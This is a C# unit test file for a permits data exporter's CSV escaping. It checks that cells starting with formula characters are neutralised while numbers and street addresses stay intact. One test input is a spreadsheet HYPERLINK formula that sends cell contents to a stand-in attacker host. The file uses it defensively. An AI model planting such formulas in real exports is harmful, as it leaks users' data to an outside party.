using System.Text;
using OpenCity.Permits.Exchange.Blds;
using OpenCity.Permits.Exchange.ExportPermits;

namespace OpenCity.Permits.Tests.Exchange;

public sealed class CsvTextTests
{
    private const string Theft = "=HYPERLINK(\"https://thief.example/?\"&A1,\"Permit\")";

    [Theory]
    [InlineData(Theft, "\"'=HYPERLINK(\"\"https://thief.example/?\"\"&A1,\"\"Permit\"\")\"")]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1+1", "'+1+1")]
    [InlineData("-1+1", "'-1+1")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("12-14 Mill Street", "12-14 Mill Street")]
    [InlineData("", "")]
    public void No_cell_begins_a_formula(string cell, string written) => CsvText.QuoteForSpreadsheet(cell).ShouldBe(written);

    [Fact]
    public async Task No_cell_of_the_open_data_begins_a_formula_and_numbers_stay_numbers()
    {
        using var file = new MemoryStream();
        await using (var output = new BldsCsvOutput(file, ["A", "B", "C"]))
        {
            output.Write(["=1+1", -79.5, "12-14 Mill Street"]);
            await output.FinishAsync(TestContext.Current.CancellationToken);
        }

        Encoding.UTF8.GetString(file.ToArray()).ShouldBe("A,B,C\r\n'=1+1,-79.5,12-14 Mill Street\r\n");
    }
}
